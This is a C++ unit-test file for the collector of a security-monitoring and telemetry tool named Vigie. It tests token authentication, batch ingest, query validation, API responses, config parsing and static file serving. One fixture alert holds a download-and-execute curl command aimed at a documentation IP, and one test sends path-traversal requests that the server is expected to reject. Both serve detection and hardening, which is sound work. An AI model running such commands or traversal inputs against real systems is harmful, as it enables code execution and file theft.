#include "http/handler.h"

#include <gtest/gtest.h>

#include <fstream>
#include <nlohmann/json.hpp>

#include "json.h"
#include "storage/sqlite_store.h"
#include "support/sample_batch.h"
#include "vigie/protocol/codec.h"

namespace vigie::collector {
namespace {

using nlohmann::json;
using testing::kBaseNs;
using testing::sample_batch;

constexpr const char* kToken = "agent-secret-node1";
constexpr const char* kNode2Token = "agent-secret-node2";
constexpr const char* kOpenToken = "agent-secret-any-host";

class CollectorHandlerTest : public ::testing::Test {
 protected:
  CollectorHandlerTest() : store_((dir_.path() / "collector.db").string()) {
    config_.body_limit_bytes = 64 * 1024;
    config_.agent_tokens = {{sha256(kToken), "site-a", "node1"},
                            {sha256(kNode2Token), "site-a", "node2"},
                            {sha256(kOpenToken), "", "", true}};
    // The API without a token, as the quick start on loopback; roles and
    // tokens: access_test.cpp.
    config_.api.anonymous = Principal{Role::kAdmin, "anonymous", {}};
    config_.dashboard_dir = (dir_.path() / "web").string();
    std::filesystem::create_directories(dir_.path() / "web" / "css");
    std::ofstream(dir_.path() / "web" / "index.html") << "<!doctype html><title>Vigie</title>";
    std::ofstream(dir_.path() / "web" / "css" / "app.css") << "body{}";
    std::ofstream(dir_.path() / "secret.txt") << "outside the root";
    handler_ = std::make_unique<Handler>(config_, store_, metrics_);
  }

  Request ingest(const std::string& body, const std::string& token = kToken) {
    Request request;
    request.method = "POST";
    request.target = "/api/v1/ingest";
    if (!token.empty()) request.authorization = "Bearer " + token;
    request.content_type = "application/x-protobuf";
    request.content_encoding = "zstd";
    request.body = body;
    return request;
  }

  Response get(const std::string& target) {
    return handler_->handle({"GET", target, "", "", "", ""});
  }

  static std::string error_of(const Response& response) {
    return json::parse(response.body).value("error", std::string());
  }

  testing::TempDir dir_;
  Config config_;
  SqliteStore store_;
  Metrics metrics_;
  std::unique_ptr<Handler> handler_;
};

TEST_F(CollectorHandlerTest, StoresABatchThenAnswersDuplicate) {
  const std::string body = protocol::encode_batch(sample_batch(1));
  const auto first = handler_->handle(ingest(body));
  EXPECT_EQ(first.status, 200) << first.body;
  EXPECT_EQ(json::parse(first.body), json({{"status", "stored"}}));
  const auto second = handler_->handle(ingest(body));
  EXPECT_EQ(second.status, 200);
  EXPECT_EQ(json::parse(second.body), json({{"status", "duplicate"}}));
  EXPECT_EQ(store_.events({}).size(), 3u);

  const auto metrics = get("/metrics");
  EXPECT_NE(metrics.body.find("vigie_collector_ingest_batches_total 1"), std::string::npos)
      << metrics.body;
  EXPECT_NE(metrics.body.find("vigie_collector_ingest_duplicate_batches_total 1"),
            std::string::npos);
  EXPECT_NE(metrics.body.find("vigie_collector_ingest_events_total 3"), std::string::npos);
}

TEST_F(CollectorHandlerTest, RefusesMissingOrUnknownTokens) {
  const std::string body = protocol::encode_batch(sample_batch(1));
  const auto missing = handler_->handle(ingest(body, ""));
  EXPECT_EQ(missing.status, 401);
  EXPECT_NE(error_of(missing).find("missing bearer token"), std::string::npos);
  const auto unknown = handler_->handle(ingest(body, "not-a-token"));
  EXPECT_EQ(unknown.status, 401);
  EXPECT_EQ(error_of(unknown), "unknown agent token");
  auto basic = ingest(body);
  basic.authorization = "Basic dXNlcjpwYXNz";
  EXPECT_EQ(handler_->handle(basic).status, 401);
  EXPECT_TRUE(store_.events({}).empty());
  EXPECT_NE(
      get("/metrics").body.find(R"(vigie_collector_rejections_total{reason="unauthorized"} 3)"),
      std::string::npos);
}

TEST_F(CollectorHandlerTest, AHostBoundTokenCannotWriteForAnotherHost) {
  const auto other = handler_->handle(ingest(protocol::encode_batch(sample_batch(1, "node2"))));
  EXPECT_EQ(other.status, 403);
  EXPECT_TRUE(store_.events({}).empty());
  // An any_host token may.
  EXPECT_EQ(
      handler_->handle(ingest(protocol::encode_batch(sample_batch(1, "node2")), kOpenToken)).status,
      200);
  // A token whose host is empty is bound to no host at all, not to every one.
  config_.agent_tokens = {{sha256(kToken), "", ""}};
  Handler unbound(config_, store_, metrics_);
  EXPECT_EQ(unbound.handle(ingest(protocol::encode_batch(sample_batch(2, "node2")))).status, 403);
}

TEST_F(CollectorHandlerTest, TwoHostsMaySendTheSameAgentIdAndSequence) {
  auto node1 = sample_batch(5, "node1");
  auto node2 = sample_batch(5, "node2");
  node1.agent_id = node2.agent_id = "vigie-agent";
  const auto first = handler_->handle(ingest(protocol::encode_batch(node1), kToken));
  const auto second = handler_->handle(ingest(protocol::encode_batch(node2), kNode2Token));
  EXPECT_EQ(json::parse(first.body), json({{"status", "stored"}})) << first.body;
  EXPECT_EQ(json::parse(second.body), json({{"status", "stored"}})) << second.body;
  EXPECT_EQ(store_.events({}).size(), 6u);
  EXPECT_EQ(json::parse(get("/api/v1/agents").body).at("agents").size(), 2u);
}

TEST_F(CollectorHandlerTest, RefusesAnIngestWithoutATokenBeforeItsBody) {
  Request headers = ingest("", "");
  const auto missing = handler_->refuse_before_body(headers);
  ASSERT_TRUE(missing.has_value());
  EXPECT_EQ(missing->status, 401);
  headers.authorization = "Bearer not-a-token";
  ASSERT_TRUE(handler_->refuse_before_body(headers).has_value());
  EXPECT_FALSE(handler_->refuse_before_body(ingest("", kToken)).has_value());
  EXPECT_FALSE(handler_->refuse_before_body({"GET", "/api/v1/alerts", "", "", "", ""}).has_value());
  const auto metrics = get("/metrics").body;
  EXPECT_NE(metrics.find(R"(vigie_collector_rejections_total{reason="unauthorized"} 2)"),
            std::string::npos)
      << metrics;
  EXPECT_NE(
      metrics.find(R"(vigie_collector_http_requests_total{code="401",path="/api/v1/ingest"} 2)"),
      std::string::npos)
      << metrics;
}

TEST_F(CollectorHandlerTest, ServesTextThatIsNotUtf8WithReplacementCharacters) {
  // A user may exec with argv $'\xff\xfe'; the agent sends the bytes as they are.
  auto batch = sample_batch(1);
  auto& exec = std::get<protocol::ProcessExec>(batch.events[0].body);
  exec.argv = {"/tmp/x", "\xff\xfe"};
  exec.command_line = "/tmp/x \xff\xfe";
  exec.image = "/tmp/\xff";
  batch.events[0].user = "\xfe";
  batch.alerts[0].event = batch.events[0];
  batch.alerts[0].tags = {"\xff"};
  const auto stored = handler_->handle(ingest(protocol::encode_batch(batch)));
  ASSERT_EQ(stored.status, 200) << stored.body;

  const auto events = get("/api/v1/events?kind=process_exec");
  ASSERT_EQ(events.status, 200) << events.body;
  const auto event = json::parse(events.body).at("events").at(0);
  EXPECT_EQ(event.at("argv"), json({"/tmp/x", "\uFFFD\uFFFD"}));
  EXPECT_EQ(event.at("command_line"), "/tmp/x \uFFFD\uFFFD");
  EXPECT_EQ(event.at("user"), "\uFFFD");

  const auto alerts = get("/api/v1/alerts");
  ASSERT_EQ(alerts.status, 200) << alerts.body;
  const auto alert = json::parse(alerts.body).at("alerts").at(0);
  EXPECT_EQ(alert.at("command_line"), "/tmp/x \uFFFD\uFFFD");
  EXPECT_EQ(alert.at("image"), "/tmp/\uFFFD");
  EXPECT_EQ(alert.at("event").at("argv").at(1), "\uFFFD\uFFFD");
  EXPECT_EQ(alert.at("tags"), json({"\uFFFD"}));
}

TEST_F(CollectorHandlerTest, RefusesGarbageWithTheDecodersMessage) {
  const auto garbage = handler_->handle(ingest("this is not zstd"));
  EXPECT_EQ(garbage.status, 400);
  EXPECT_EQ(error_of(garbage).rfind("bad batch: ", 0), 0u) << garbage.body;
  EXPECT_GT(error_of(garbage).size(), std::string("bad batch: ").size());

  auto wrong_type = ingest(protocol::encode_batch(sample_batch(1)));
  wrong_type.content_type = "application/json";
  EXPECT_EQ(handler_->handle(wrong_type).status, 415);

  auto invalid = sample_batch(1);
  invalid.sequence = 0;  // the codec's validation rule
  EXPECT_EQ(handler_->handle(ingest(protocol::encode_batch(invalid))).status, 400);
  EXPECT_NE(get("/metrics").body.find(R"(vigie_collector_rejections_total{reason="not_zstd"} 1)"),
            std::string::npos);
}

TEST_F(CollectorHandlerTest, RefusesAnOversizedBody) {
  const auto response = handler_->handle(ingest(std::string(config_.body_limit_bytes + 1, 'x')));
  EXPECT_EQ(response.status, 413);
  EXPECT_NE(error_of(response).find("65536"), std::string::npos);
  EXPECT_EQ(handler_->reject(Rejection::kTooLarge, "/api/v1/ingest").status, 413);
  EXPECT_NE(
      get("/metrics").body.find(R"(vigie_collector_rejections_total{reason="body_too_large"} 2)"),
      std::string::npos);
}

TEST_F(CollectorHandlerTest, AnswersUnknownPathsAndWrongMethods) {
  EXPECT_EQ(get("/api/v1/nothing").status, 404);
  EXPECT_EQ(get("/no-such-file.html").status, 404);
  const auto get_ingest = get("/api/v1/ingest");
  EXPECT_EQ(get_ingest.status, 405);
  EXPECT_EQ(get_ingest.headers.at(0), std::make_pair(std::string("Allow"), std::string("POST")));
  EXPECT_EQ(handler_->handle({"DELETE", "/api/v1/alerts", "", "", "", ""}).status, 405);
  EXPECT_EQ(handler_->handle({"POST", "/api/v1/nothing", "", "", "", ""}).status, 404);
  EXPECT_EQ(get("/api/v1/jobs//footprint").status, 404);  // no job id: no route
  EXPECT_EQ(get("not-a-path").status, 404);
}

TEST_F(CollectorHandlerTest, ValidatesQueryParameters) {
  EXPECT_EQ(get("/api/v1/events?kind=process_exec&host=node1&since=0&limit=10").status, 200);
  const auto bad_kind = get("/api/v1/events?kind=fork");
  EXPECT_EQ(bad_kind.status, 400);
  EXPECT_NE(error_of(bad_kind).find("'kind'"), std::string::npos);
  // The message lists every kind the protocol knows, from the same data.
  for (int k = 0; k < protocol::kEventKindCount; ++k) {
    const auto name = protocol::to_string(static_cast<protocol::EventKind>(k));
    EXPECT_NE(error_of(bad_kind).find(name), std::string::npos) << name;
  }
  EXPECT_EQ(get("/api/v1/events?limit=0").status, 400);
  EXPECT_EQ(get("/api/v1/events?limit=abc").status, 400);
  EXPECT_EQ(get("/api/v1/alerts?since=-5").status, 400);
  EXPECT_EQ(get("/api/v1/alerts?since=1&since=2").status, 400);
  EXPECT_EQ(get("/api/v1/alerts?colour=red").status, 400);
  EXPECT_EQ(get("/api/v1/alerts?host=").status, 400);
  EXPECT_EQ(get("/api/v1/alerts?host=%zz").status, 400);
  EXPECT_EQ(get("/api/v1/energy?since=20&until=10").status, 400);
  EXPECT_EQ(get("/api/v1/agents?x=1").status, 400);
}

TEST_F(CollectorHandlerTest, ServesTheApiShapes) {
  ASSERT_EQ(handler_->handle(ingest(protocol::encode_batch(sample_batch(1)))).status, 200);

  const auto alerts = json::parse(get("/api/v1/alerts?host=node1").body).at("alerts");
  ASSERT_EQ(alerts.size(), 1u);
  const auto& alert = alerts[0];
  EXPECT_EQ(alert.at("rule_title"), "Download and execute with curl");
  EXPECT_EQ(alert.at("level"), "high");
  EXPECT_EQ(alert.at("tags"), json({"attack.execution", "attack.t1105"}));
  EXPECT_EQ(alert.at("command_line"), "curl -s http://198.51.100.7/x.sh");
  EXPECT_EQ(alert.at("image"), "/usr/bin/curl");
  EXPECT_EQ(alert.at("workload"), json({{"kind", "slurm_job"}, {"id", "42"}, {"user", "alice"}}));
  EXPECT_EQ(alert.at("event").at("argv").size(), 3u);
  for (const char* key : {"id", "received_ns", "time_ns", "rule_id", "site", "host", "agent_id",
                          "pid", "ppid", "uid", "user"}) {
    EXPECT_TRUE(alert.contains(key)) << key;
  }

  const auto events = json::parse(get("/api/v1/events?kind=network_connect").body).at("events");
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].at("destination_ip"), "198.51.100.7");
  EXPECT_EQ(events[0].at("destination_port"), 443);
  EXPECT_EQ(events[0].at("transport"), "tcp");
  EXPECT_EQ(events[0].at("workload").at("cgroup_path"), "/slurm/uid_1001/job_42/step_0");

  const auto energy = json::parse(get("/api/v1/energy?since=" + std::to_string(kBaseNs) +
                                      "&until=" + std::to_string(kBaseNs + 60'000'000'000))
                                      .body);
  EXPECT_EQ(energy.at("window").at("start_ns"), kBaseNs);
  ASSERT_EQ(energy.at("nodes").size(), 1u);
  EXPECT_EQ(energy.at("nodes")[0].at("energy_joules"), 120.0);
  EXPECT_EQ(energy.at("nodes")[0].at("power_watts"), 12.0);
  EXPECT_EQ(energy.at("nodes")[0].at("estimated"), false);
  EXPECT_EQ(energy.at("workloads").size(), 2u);
  EXPECT_EQ(energy.at("series").size(), 1u);
  // Default window: the last five minutes, nothing in it.
  EXPECT_TRUE(json::parse(get("/api/v1/energy").body).at("nodes").empty());

  const auto agents = json::parse(get("/api/v1/agents").body).at("agents");
  ASSERT_EQ(agents.size(), 1u);
  EXPECT_EQ(agents[0].at("rule_pack_version"), "core-1.0");
}

TEST_F(CollectorHandlerTest, ServesStaticFilesInsideTheRootOnly) {
  const auto index = get("/");
  EXPECT_EQ(index.status, 200);
  EXPECT_EQ(index.content_type, "text/html; charset=utf-8");
  EXPECT_EQ(get("/css/app.css").content_type, "text/css; charset=utf-8");
  EXPECT_EQ(get("/../secret.txt").status, 404);
  EXPECT_EQ(get("/css/../../secret.txt").status, 404);
  EXPECT_EQ(get("/%2e%2e/secret.txt").status, 404);
  EXPECT_EQ(get("/css%2f..%2f..%2fsecret.txt").status, 404);
  EXPECT_EQ(get("/css/").status, 404);
  std::filesystem::create_symlink(dir_.path() / "secret.txt", dir_.path() / "web" / "link.txt");
  EXPECT_EQ(get("/link.txt").status, 404);
  // No vendor dir configured: the page still loads, uPlot does not.
  EXPECT_EQ(get("/vendor/uplot.iife.min.js").status, 404);
}

TEST_F(CollectorHandlerTest, ServesVendorFilesWhateverTheirCase) {
  std::filesystem::create_directories(dir_.path() / "vendor");
  std::ofstream(dir_.path() / "vendor" / "uPlot.iife.min.js") << "var uPlot;";
  config_.vendor_dir = (dir_.path() / "vendor").string();
  Handler handler(config_, store_, metrics_);
  const auto script = handler.handle({"GET", "/vendor/uplot.iife.min.js", "", "", "", ""});
  EXPECT_EQ(script.status, 200);
  EXPECT_EQ(script.content_type, "text/javascript; charset=utf-8");
  EXPECT_EQ(script.body, "var uPlot;");
  EXPECT_EQ(handler.handle({"GET", "/vendor/../index.html", "", "", "", ""}).status, 404);
}

TEST(CollectorConfigTest, LoadsAndValidatesYaml) {
  testing::TempDir dir;
  const auto path = (dir.path() / "collector.yaml").string();
  const std::string digest = to_hex(sha256("s3cret"));
  std::ofstream(path) << "listen:\n  address: 0.0.0.0\n  port: 9900\ndatabase: /tmp/x.db\n"
                         "limits:\n  body_bytes: 1048576\nagent_tokens:\n  - sha256: "
                      << digest << "\n    host: node1\n";
  const Config config = load_config(path);
  EXPECT_EQ(config.listen_address, "0.0.0.0");
  EXPECT_EQ(config.port, 9900);
  EXPECT_EQ(config.body_limit_bytes, 1048576u);
  ASSERT_EQ(config.agent_tokens.size(), 1u);
  EXPECT_EQ(config.agent_tokens[0].host, "node1");
  EXPECT_EQ(find_agent_token(config.agent_tokens, "s3cret"), &config.agent_tokens[0]);
  EXPECT_EQ(find_agent_token(config.agent_tokens, "s3cre"), nullptr);

  auto error_for = [&](const std::string& yaml) {
    std::ofstream(path) << yaml;
    try {
      load_config(path);
    } catch (const std::runtime_error& e) {
      return std::string(e.what());
    }
    return std::string("no error");
  };
  EXPECT_NE(error_for("listen:\n  prot: 1\n").find("unknown key 'listen.prot'"), std::string::npos);
  EXPECT_NE(error_for("listen:\n  port: 70000\n").find("listen.port"), std::string::npos);
  EXPECT_NE(error_for("agent_tokens:\n  - sha256: abc\n").find("64 hex digits"), std::string::npos);
  EXPECT_NE(error_for("threads: 0\n").find("threads"), std::string::npos);
  EXPECT_NE(error_for("agent_tokens:\n  - sha256: " + digest + "\n").find("need a host"),
            std::string::npos);
  EXPECT_NE(error_for("agent_tokens:\n  - sha256: " + digest + "\n    any_host: false\n")
                .find("need a host"),
            std::string::npos);
  EXPECT_NE(
      error_for("agent_tokens:\n  - sha256: " + digest + "\n    host: node1\n    any_host: true\n")
          .find("not both"),
      std::string::npos);
  EXPECT_NE(error_for("limits:\n  max_connections: 0\n").find("max_connections"),
            std::string::npos);
  EXPECT_NE(error_for("timeouts:\n  header_seconds: 0\n").find("timeouts"), std::string::npos);
  EXPECT_NE(error_for("listen: [\n").find(path), std::string::npos);
  EXPECT_THROW(load_config((dir.path() / "missing.yaml").string()), std::runtime_error);
}

TEST(CollectorConfigTest, ReadsConnectionLimitsAndUnboundTokens) {
  testing::TempDir dir;
  const auto path = (dir.path() / "collector.yaml").string();
  std::ofstream(path) << "limits:\n  max_connections: 8\ntimeouts:\n  header_seconds: 2\n"
                         "agent_tokens:\n  - sha256: "
                      << to_hex(sha256("lab")) << "\n    any_host: true\n";
  const Config config = load_config(path);
  EXPECT_EQ(config.max_connections, 8u);
  EXPECT_EQ(config.header_timeout, std::chrono::seconds(2));
  ASSERT_EQ(config.agent_tokens.size(), 1u);
  EXPECT_TRUE(config.agent_tokens[0].any_host);
  EXPECT_EQ(default_config().max_connections, 1024u);
  EXPECT_EQ(default_config().header_timeout, std::chrono::seconds(10));
}

TEST(CollectorConfig, ShippedExampleParses) {
  const Config config =
      load_config(std::string(VIGIE_SOURCE_DIR) + "/deploy/config/vigie-collector.yaml");
  EXPECT_EQ(config.port, 9800);
  ASSERT_EQ(config.agent_tokens.size(), 1u);
  EXPECT_NE(find_agent_token(config.agent_tokens, "demo-token"), nullptr);
}

}  // namespace
}  // namespace vigie::collector
